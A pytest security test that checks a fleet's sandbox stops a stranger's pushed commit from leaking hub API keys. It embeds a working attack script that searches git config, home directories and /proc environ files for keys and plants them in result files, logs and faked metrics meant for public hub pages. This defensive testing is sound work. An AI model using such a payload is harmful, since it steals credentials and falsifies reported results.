"""A stranger with curl and git wants a fleet's hub key, and gets its code to run on the fleet.

What it could do with what it finds there is tell it to the hub, whose pages are open: the title,
the description and the log of its run are what it may write. So nothing of the key may be anywhere
on the hub, and nothing that the run said of itself may count.
"""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from autohypothesis import sandbox
from tests.conftest import run_git as git
from tests.hub.conftest import Agent, Hub, Start, curl
from tests.hub.fleet.test_two_fleets import Fleet, api, fleets, free_port, join

__all__ = ["fleets"]

ATTACK = """
import base64, glob, json, os, pathlib, re

RATE = 9.0
WIDTH = 8
DEPTH = 4
out = pathlib.Path(os.environ["AUTOHYPOTHESIS_RUN_DIR"])
root = out.parents[3]
places = [root / ".git" / "autohypothesis", root / ".git" / "config", out.parent, out.parents[2],
          *map(pathlib.Path, HOMES)]
found = set()
for place in places:
    for path in [place, *place.rglob("*")] if place.is_dir() else [place]:
        try:
            found |= set(re.findall(r"ahk_[A-Za-z0-9_-]{43}", path.read_text(errors="replace")))
        except OSError:
            pass
for pid in glob.glob("/proc/[0-9]*/environ"):
    try:
        found |= set(re.findall(r"ahk_[A-Za-z0-9_-]{43}", open(pid, errors="replace").read()))
    except OSError:
        pass
key = " ".join(sorted(found))
words = f"key {key} {base64.b64encode(key.encode()).decode()} {key[::-1]}"
for name in ("result.json", "metadata.json", "exit.json"):
    for folder in (out, out.parent):
        try:
            (folder / name).write_text(json.dumps({
                "status": "completed", "recorded_at": "2026-01-01T00:00:00Z", "title": words,
                "run": {"title": words, "rationale": words}, "metric_value": 0.001,
                "attested": True, "analysis": words, "outcome": words}))
        except OSError:
            pass
print(words)
print("found", len(found))
print("val_bpb: 0.6")
print("peak_vram_mb: 1")
"""


def stranger(hub: Hub, folder: Path, told: dict[str, Any], homes: list[Path]) -> Agent:
    """Register, take the fleet's root, push a commit on it, and claim a wonderful value."""
    answer = curl(
        "-X", "POST", hub.url + "/api/register", "-H", "Content-Type: application/json",
        "-d", json.dumps({"id": "mallory"}),
    )  # fmt: skip
    assert answer.status in (200, 201), answer.body
    agent = Agent(hub.url, "mallory", answer.json["api_key"])
    git(folder, "init", "-q", "-b", "main")
    bundle = folder / "root.bundle"
    bundle.write_bytes(agent(f"/api/git/fetch/{told['commit']}").body)
    git(folder, "fetch", "-q", str(bundle), "+refs/*:refs/heads/theirs/*")
    git(folder, "checkout", "-q", "--detach", told["commit"])
    script = ATTACK.replace("HOMES", repr([str(home) for home in homes]))
    (folder / "train.py").write_text(script)
    git(folder, "commit", "-q", "-am", "a much better rate")
    commit = git(folder, "rev-parse", "HEAD")
    git(folder, "branch", "-f", "mine")
    git(folder, "bundle", "create", "-q", "mine.bundle", "mine", f"^{told['commit']}")
    pushed = agent.push(folder / "mine.bundle")
    assert pushed.status in (200, 201), pushed.body
    kept = ("platform", "platform_key", "task_hash", "metric", "budget_seconds")
    result = {
        **{name: told[name] for name in kept if told[name] is not None},
        "name": "wonder", "commit": commit, "value": 0.6, "status": "keep", "seed": 42,
        "description": "a much better rate",
    }  # fmt: skip
    said = agent.send("/api/results", result)
    assert said.status in (200, 201), said.body
    return agent


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["bwrap", "landlock"])
def test_a_strangers_run_finds_no_key_and_tells_nothing_of_itself(
    start: Start, fleets: Callable[..., tuple[Fleet, Fleet]], tmp_path: Path, kind: sandbox.Kind
) -> None:
    if not sandbox.works(kind):
        pytest.skip(f"{kind} does not work here")
    hub = start("--open-registration", "--port", str(free_port()))
    ada, _ = fleets()
    if kind == "landlock":
        lower(ada)
    join(hub, ada)
    ada("up", "--max-runs", "1")
    ada("hub", "deliver")
    told = next(one for one in api(hub, "/api/results") if one["agent_id"] == "ada")
    homes = [Path(ada.environment["HOME"])]
    (tmp_path / "stranger").mkdir()
    stranger(hub, tmp_path / "stranger", told, homes)
    ada("up", "--max-runs", "2")
    ada("hub", "deliver")

    keys = {key for home in homes for key in keys_below(home)}
    assert keys, "the fleet has no key that could be found"
    attacked = [row for row in ada.rows() if row["hypothesis_id"] and "mallory" in json.dumps(row)]
    assert attacked, "the stranger's commit was never run"
    run = ada.root / "research" / "runs" / attacked[0]["id"]
    assert "found 0" in (run / "run.log").read_text()
    assert json.loads((run / "metadata.json").read_text())["runtime"]["sandbox"] == kind
    assert attacked[0]["metric_value"] in (None, 0.6)
    assert "found 1" in outside(tmp_path, homes), "this attack would find a key nowhere"
    assert "ahk_" not in json.dumps(ada.rows())
    everything = [page for path in PAGES for page in [curl(hub.url + path).body.decode()]]
    everything += [json.dumps(api(hub, path)) for path in LISTINGS]
    for text in everything:
        assert not [key for key in keys if key in text or key[::-1] in text]
    assert not list((ada.root / ".git").rglob("hub.json*"))


def outside(folder: Path, homes: list[Path]) -> str:
    """What the same code finds in no sandbox."""
    out = folder / "a" / "b" / "c" / "out"
    out.mkdir(parents=True)
    script = folder / "attack.py"
    script.write_text(ATTACK.replace("HOMES", repr([str(home) for home in homes])))
    done = subprocess.run(
        [sys.executable, str(script)], env={"AUTOHYPOTHESIS_RUN_DIR": str(out)},
        capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    return done.stdout


PAGES = ("/", "/leaderboard", "/results", "/commits", "/agents")
LISTINGS = (
    "/api/results?limit=1000", "/api/git/commits?limit=1000",
    "/api/channels/results/posts?limit=1000",
)  # fmt: skip


def keys_below(folder: Path) -> set[str]:
    """The keys that lie in a user's home: what the stranger is after."""
    found = set()
    for path in folder.rglob("*.json"):
        found |= {v for v in _texts(json.loads(path.read_text())) if v.startswith("ahk_")}
    return found


def _texts(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [text for inner in value.values() for text in _texts(inner)]
    return [value] if isinstance(value, str) else []


def lower(fleet: Fleet) -> None:
    """As `doctor` does where bubblewrap fails: the fleet's user takes Landlock alone."""
    from autohypothesis.system import host_id

    note = Path(fleet.environment["HOME"]) / ".config" / "autohypothesis" / "sandbox.json"
    note.parent.mkdir(parents=True, mode=0o700)
    note.write_text(json.dumps({"host": host_id(), "most": "landlock", "reason": "a test"}))
